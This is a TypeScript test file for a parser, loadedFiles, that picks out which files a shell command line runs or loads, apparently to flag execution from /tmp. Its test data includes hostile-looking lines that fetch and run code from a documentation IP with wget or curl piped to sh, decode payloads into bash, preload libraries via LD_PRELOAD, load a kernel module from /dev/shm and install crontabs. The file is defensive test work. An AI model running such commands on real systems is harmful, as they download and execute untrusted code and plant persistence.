import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { loadedFiles } from './loads.ts'

describe('loadedFiles', () => {
  const loading: readonly (readonly [string, readonly string[]])[] = [
    ['/tmp/x', ['/tmp/x']],
    ['/tmp//a/../x --flag', ['/tmp/x']],
    ['"/tmp/x y"', ['/tmp/x y']],
    ["'/tmp/x'", ['/tmp/x']],
    ['/t\\mp/x', ['/tmp/x']],
    ['sh /tmp/x.sh arg', ['/tmp/x.sh']],
    ['bash -ex /tmp/x.sh', ['/tmp/x.sh']],
    ['/bin/bash -c "/tmp/x >/dev/null 2>&1"', ['/bin/bash', '/tmp/x']],
    ["sh -c 'sh -c /tmp/x'", ['/tmp/x']],
    ['python3.11 -u /tmp/x.py', ['/tmp/x.py']],
    ['python -W ignore /tmp/x.py', ['/tmp/x.py']],
    ['. /tmp/x', ['/tmp/x']],
    ['source /tmp/x', ['/tmp/x']],
    ['FOO=1 nohup nice -n 5 /tmp/x &', ['/tmp/x']],
    ['sudo -u www timeout 10 /tmp/x', ['/tmp/x']],
    ['flock -n /var/lock/a -c "sh /tmp/x"', ['/tmp/x']],
    ['su - user -c "/tmp/x"', ['/tmp/x']],
    ['LD_PRELOAD=/tmp/a.so ls', ['/tmp/a.so']],
    ['env LD_PRELOAD=/tmp/a.so ls', ['/tmp/a.so']],
    ['export PATH=/tmp:$PATH; job', ['/tmp', '$PATH']],
    ['bash < /tmp/x', ['/tmp/x']],
    ['cat /tmp/x | sh', ['/tmp/x']],
    ['base64 -d /tmp/x | gunzip | bash -s', ['/tmp/x']],
    ['cat /tmp/jobs | crontab -', ['/tmp/jobs']],
    ['crontab /tmp/jobs', ['/tmp/jobs']],
    ['cd /tmp && ./x', ['/tmp/x']],
    ['cd /tmp; wget http://192.0.2.1/a; sh a', ['/tmp/a']],
    ['wget -O /tmp/l http://192.0.2.1/l; chmod 700 /tmp/l; /tmp/l >> /tmp/o', ['/tmp/l']],
    ['curl -s http://192.0.2.1 -o /tmp/x | sh', ['http://192.0.2.1', '/tmp/x']],
    ["cd /tmp && sh -c './x'", ['/tmp/x']],
    ['cd /tmp; echo $(./x)', ['/tmp/x']],
    ['(cd /tmp; cat jobs) | crontab -', ['/tmp/jobs']],
    ['find / -name a -exec /tmp/x {} \\;', ['/tmp/x']],
    ['/bin/sh -c python3 /tmp/x.py', ['/bin/sh', '/tmp/x.py']],
    ['busybox sh /tmp/x', ['/tmp/x']],
    ['[ -f /tmp/x ] && /tmp/x', ['/tmp/x']],
    ['if true; then /tmp/x; fi', ['/tmp/x']],
    ['echo "$(/tmp/x)"', ['/tmp/x']],
    ['echo `/tmp/x`', ['/tmp/x']],
    ['(/tmp/x)', ['/tmp/x']],
    ['true&/tmp/x', ['/tmp/x']],
    ['insmod /dev/shm/a.ko', ['/dev/shm/a.ko']],
    ['/lib64/ld-linux-x86-64.so.2 /tmp/x', ['/lib64/ld-linux-x86-64.so.2', '/tmp/x']],
  ]
  it.each(loading)('%s', (line, files) => {
    expect(loadedFiles(line)).toEqual(files)
  })

  const harmless = [
    '',
    'job > /tmp/log',
    'job >/tmp/log 2>&1',
    'job &> /tmp/log',
    'find /tmp -mtime +7 -delete',
    'rm -rf /tmp/cache',
    'tar czf /tmp/backup.tgz /etc',
    'test -e /tmp/lock || job',
    '[ -f /tmp/x ] || job',
    'flock -n /tmp/job.lock job',
    'cat /tmp/list | python -c "import sys"',
    "perl -ne 'print' /tmp/x",
    'sort < /tmp/x',
    'echo /tmp/x',
    "echo 'sh /tmp/x'",
    'job # /tmp/x',
    'crontab -l > /tmp/backup',
    'cd /tmp && rm -f a',
  ]
  it.each(harmless)('nothing from /tmp in: %s', line => {
    expect(loadedFiles(line).filter(path => path.includes('/tmp'))).toEqual([])
  })

  it('takes an open quote, a lone backslash and an open substitution as reaching to the end', () => {
    expect(loadedFiles('sh "/tmp/x')).toEqual(['/tmp/x'])
    expect(loadedFiles("sh '/tmp/x")).toEqual(['/tmp/x'])
    expect(loadedFiles('/tmp/x\\')).toEqual(['/tmp/x\\'])
    expect(loadedFiles('echo $(/tmp/x')).toEqual(['/tmp/x'])
  })

  it('never throws, whatever the text', () => {
    const shellish = fc.string({
      unit: fc.constantFrom(...'$()`\'"\\|&;<>#\n =/-', 'sh', 'tmp', ' -c ', 'cd ', 'env '),
      maxLength: 200,
    })
    fc.assert(
      fc.property(fc.oneof(shellish, fc.string({ unit: 'binary' })), text => loadedFiles(text).length >= 0),
    )
  })

  it.each([
    'cd a;',
    'cd a; ./x;',
    '$(',
    '(',
    '`',
    '"',
    "'",
    '<',
    '|sh',
    ' env',
    'sh -c ',
    '$(sh -c "',
    '/tmp/x|sh|',
    '&>',
    '\\',
    '/../',
  ])('takes time in proportion to the text: %j', piece => {
    const time = (length: number) => {
      const text = piece.repeat(Math.ceil(length / piece.length))
      const start = performance.now()
      loadedFiles(text)
      return performance.now() - start
    }
    time(10_000)
    expect(Math.min(time(100_000), time(100_000))).toBeLessThan(400)
  })
})
